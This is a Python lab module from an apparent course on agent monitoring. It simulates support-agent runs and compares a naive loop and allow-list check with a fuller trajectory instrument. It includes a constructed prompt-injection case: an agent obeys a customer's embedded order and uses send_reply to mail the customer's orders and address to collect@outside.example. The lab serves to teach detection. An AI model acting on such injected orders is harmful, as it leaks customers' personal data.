"""Lab 9: agent runs. The course's loop check and allow-list, beside the instrument that reads real logs."""

from __future__ import annotations

import json
from collections.abc import Collection
from dataclasses import dataclass, replace
from functools import lru_cache
from typing import ClassVar, Final

from aiboard.engine.chance.latents import Purpose
from aiboard.engine.chance.luck import mix
from aiboard.engine.systems.agent import StepState, agent_run, state_of
from aiboard.instruments.cycles import three_alike
from aiboard.instruments.personal_data import exposures
from aiboard.instruments.rate_limit import rate_limit_hits
from aiboard.instruments.rates import upper_bound_without_failures
from aiboard.instruments.trajectory import FlagKind, Run, Step, StepKind, analyse
from aiboard.labs import lab
from aiboard.labs.controls import Values
from aiboard.labs.games import world_and_latents
from aiboard.views import fmt
from aiboard.views.card.trajectory import ALLOWED, run
from aiboard.views.words import Tone

_SHOWN: Final = 8
_STOPS: Final = frozenset({FlagKind.LOOP, FlagKind.UNAUTHORISED, FlagKind.BURST, FlagKind.STEP_CAP})
"""Findings that would hold a run up; a tool's error alone would not."""
_FAILURES: Final = (0.2, 1, 3, 6, 12)
"""Failures in all the runs that the offered rates come to: three is the rule of three, and nearly the answer."""
_EMAILS: Final = 47
"""So many messages the course's runaway agent sent."""
MOCK, STAGING, PRODUCTION = range(3)
"""The gates: tools that always answer, real tools on test cases, and customers."""
_PLACES: Final = ("the sandbox with mock tools", "staging, with real tools on test cases", "production")
_ORDER: Final = 50
"""Place of the draw in a run's luck; the engine's own end before it."""
_OUTSIDE: Final = "collect@outside.example"
_LETTER: Final = Step(
    StepKind.TOOL_CALL,
    "agent",
    "send_reply",
    json.dumps({"to": _OUTSIDE, "text": "As you asked: the customer's orders and address"}),
    "sent",
)
"""What an agent does that follows an order in a customer's message, with a tool that it may use."""
_MAIL_TOOLS: Final = ("search", "read_doc", "write_report", "send_email")
"""The listing's own allow-list."""


def naive_has_loop(steps: Collection[Step]) -> bool:
    """The listing's rule: three calls in a row with the same tool and the same input."""
    calls = [(step.tool, step.arguments) for step in steps if step.kind is StepKind.TOOL_CALL]
    return three_alike(calls)


def naive_unauthorised(steps: Collection[Step], allowed: Collection[str]) -> int:
    """The listing's rule: calls of tools outside a fixed list, whatever they are given."""
    return sum(step.kind is StepKind.TOOL_CALL and step.tool not in allowed for step in steps)


@dataclass(frozen=True, slots=True)
class JudgedRun:
    """One run: its tool calls, letters that reach customers without a limit and with it, what each rule says of it."""

    steps: int
    letters: int
    let_through: int
    wrong: bool
    naive: bool
    engine: bool
    reason: str


@lru_cache(maxsize=50_000)
def judge(codes: tuple[int, ...], case: int, obeys: bool, cap: int, arguments: bool, limit: int) -> JudgedRun:
    """Both rules on one run of the game's agent.

    Args:
        codes: the engine's steps.
        case: number of the run, which chooses the words of its customer's case.
        obeys: whether the agent follows an order in the customer's message.
        cap, arguments, limit: the controls.
    """
    trace = run(codes, 0, case)
    if obeys:
        trace = replace(trace, steps=(*trace.steps[:-1], _LETTER, trace.steps[-1]))
    naive = naive_has_loop(trace.steps) or naive_unauthorised(trace.steps, ALLOWED) > 0
    analysis = analyse(trace, ALLOWED, cap)
    flags = [flag.kind.value for flag in analysis.flags if flag.kind in _STOPS]
    if arguments and exposures(trace, ALLOWED):
        flags.append("personal data")
    refused = rate_limit_hits(trace, limit)
    if refused:
        flags.append("rate limit")
    letters = sum(step.tool == _LETTER.tool for step in trace.steps)
    stopped = sum(len(one.steps) for one in refused if one.tool == _LETTER.tool)
    # A stray call, or a letter to a stranger, is wrong even where the customer got a right answer.
    wrong = not trace.passed or analysis.unauthorised != 0 or obeys
    reason = ", ".join(dict.fromkeys(flags))
    return JudgedRun(analysis.tool_calls, letters, letters - stopped, wrong, naive, bool(flags), reason)


def batch(values: Values, seed: int, first: int, count: int) -> list[JudgedRun]:
    """So many runs of an agent with these rates."""
    quality, loop, stray = (values[name] * fmt.POINT for name in ("quality", "loop", "stray"))
    runs = []
    # A run's number is part of its luck: every run is another one.
    for n in range(first, first + count):
        codes = agent_run(seed, 0, n, quality, loop, stray)
        if values["where"] == MOCK:
            # A mock always answers: what real tools refuse is not seen before production.
            codes = _mocked(codes)
        # Only customers write what the team did not think of.
        obeys = values["where"] == PRODUCTION and _obeys(seed, n, values["injected"] * fmt.POINT)
        # No rule reads what the case is about: judged on one case, equal runs are judged once.
        runs.append(judge(tuple(codes), 0, obeys, values["cap"], bool(values["arguments"]), values["limit"]))
    return runs


def _mocked(codes: list[int]) -> list[int]:
    """A run on tools that always answer: without the calls that failed, which are followed by the same again."""
    return [code for code in codes if state_of(code) != StepState.ERROR]


def _obeys(seed: int, number: int, rate_ppm: int) -> bool:
    """Whether a customer's message of this run holds an order that the agent follows."""
    return mix(seed, Purpose.AGENT_RUN, 0, number * 64 + _ORDER) % 1_000_000 < rate_ppm


class Agents(lab.Lab):
    """An agent's runs, stopped by two rules."""

    ID: ClassVar[str] = "agents"

    def run(self, values: Values, seed: int) -> lab.Outcome:
        """Both rules on the same eight runs."""
        runs = batch(values, seed, 0, _SHOWN)
        wrong = sum(one.wrong for one in runs)
        calls = ", ".join(str(one.steps) for one in runs)
        draw = f"{_SHOWN} runs of one agent in {_PLACES[values['where']]}: {wrong} went wrong ({calls} calls)"
        return lab.Outcome((draw,), _side(runs, naive=True), _side(runs, naive=False))

    def run_many(self, values: Values, seed: int, progress: lab.Progress) -> lab.Draws:
        """What each rule stops of many runs."""
        runs: list[JudgedRun] = []
        for first in range(_SHOWN, _SHOWN + self.DRAWS, 100):
            runs += batch(values, seed, first, 100)
            progress(len(runs))
        wrong = [one for one in runs if one.wrong]
        quiet = sum(not one.engine for one in wrong)
        good = sum(one.engine and not one.wrong for one in runs)
        rows = [
            ("wrong", "runs that went wrong", len(wrong) / len(runs), Tone.WARN),
            ("naive", "stopped by the course", sum(one.naive for one in runs) / len(runs), Tone.WORK),
            ("engine", "stopped by the instrument", sum(one.engine for one in runs) / len(runs), Tone.WORK),
            ("quiet", "wrong, and stopped by neither", quiet / len(runs), Tone.BAD),
            ("good_stopped", "good, stopped by the instrument", good / len(runs), Tone.WARN),
        ]
        figures, bars = lab.shares(rows)
        conclusion = "No run went wrong."
        if wrong:
            part = f"{fmt.share(quiet / len(wrong))} of the runs that went wrong"
            conclusion = f"{part} left no mark in the calls: a wrong answer is seen only by reading it."
        return lab.Draws(len(runs), figures[:2], figures[2:], bars, conclusion)

    def question(self, values: Values, seed: int) -> lab.Question:
        """What a clean sandbox does not exclude."""
        text = self.texts.question.format(runs=values["runs"])
        return lab.Question(text, tuple(f"about {100 * rate:.2g} %" for rate in _rates(values)))

    def answer(self, values: Values, seed: int) -> lab.Answer:
        """The exact bound, and what a sandbox cannot show."""
        runs = values["runs"]
        bound = upper_bound_without_failures(runs)
        daily = round(bound * 1000)
        exact = f"{100 * bound:.2f} %"
        because = self.answer_reasons(runs=runs, bound=exact, failures=fmt.count(daily, "failure"))
        return lab.Answer(lab.nearest(bound, _rates(values)), because, exact)

    def idle(self, values: Values) -> dict[str, str]:
        """Nobody gives orders before production."""
        if values["where"] == PRODUCTION:
            return {}
        return {"injected": "customers write in production only"}

    def counterexample(self) -> lab.Counterexample:
        """The runaway agent that sent a different message each time."""
        steps = tuple(
            Step(StepKind.TOOL_CALL, "agent", "send_email", json.dumps({"to": "team", "body": f"update {n}"}), "sent")
            for n in range(_EMAILS)
        )
        analysis = analyse(Run("mails", None, None, steps), _MAIL_TOOLS)
        loop, outside = naive_has_loop(steps), naive_unauthorised(steps, _MAIL_TOOLS)
        flags = [flag for flag in analysis.flags if flag.kind in _STOPS]
        return lab.Counterexample(
            self.texts.counterexample.format(mails=_EMAILS),
            _flag_side(int(loop) + outside, "nothing found", Tone.BAD),
            _flag_side(len(flags), ", ".join(flag.kind.value for flag in flags), Tone.GOOD),
        )

    def facts(self, values: Values) -> dict[str, object]:
        """The scenario's own figures of models and agents."""
        world = world_and_latents("support-chatbot")[0]
        agents = next(family for family in world.families if family.agent)
        spreads = sorted(family.card_sd_ppm for family in world.families if not family.agent)
        return {
            "incident": fmt.exact_money(world.agent_incident_cents),
            "eval_items": world.eval_items,
            "agent_runs": world.agent_runs,
            "agent_spread": fmt.points(agents.card_sd_ppm),
            "least_spread": fmt.points(spreads[0]),
            "most_spread": fmt.points(spreads[-1]),
        }


def _rates(values: Values) -> tuple[float, ...]:
    """The rates to choose from, which go with the number of runs: of fixed ones two may be as near."""
    return tuple(failures / values["runs"] for failures in _FAILURES)


def _flag_side(count: int, verdict: str, tone: Tone) -> lab.Side:
    return lab.side(verdict, lab.plain_figure("flags", "findings", count, tone), tone=tone)


def _side(runs: list[JudgedRun], naive: bool) -> lab.Side:
    """One rule's side: a run a bar."""
    stopped = [one for one in runs if (one.naive if naive else one.engine)]
    caught = sum(one.wrong for one in stopped)
    wrong = sum(one.wrong for one in runs)
    longest = max(one.steps for one in runs)
    letters = sum(one.letters if naive else one.let_through for one in runs)
    bars = []
    for number, one in enumerate(runs, 1):
        is_stopped = one.naive if naive else one.engine
        text = ("stopped" if naive else one.reason) if is_stopped else "wrong, passes" if one.wrong else "passes"
        tone = Tone.WARN if is_stopped else Tone.BAD if one.wrong else Tone.GOOD
        bars.append(lab.Bar(f"run {number}", one.steps / longest, text, tone))
    missed, good = wrong - caught, len(stopped) - caught
    figures = (
        lab.plain_figure("stopped", "runs stopped", len(stopped)),
        lab.Figure("caught", "of those that went wrong", caught, f"{caught} of {wrong}"),
        lab.plain_figure("missed", "went wrong unnoticed", missed, Tone.BAD if missed else Tone.GOOD),
        lab.plain_figure("good_stopped", "good runs stopped", good, Tone.WARN if good else Tone.GOOD),
        lab.plain_figure("letters", "letters to customers", letters),
    )
    return lab.Side(f"stops {len(stopped)} of {len(runs)}", figures, tuple(bars))
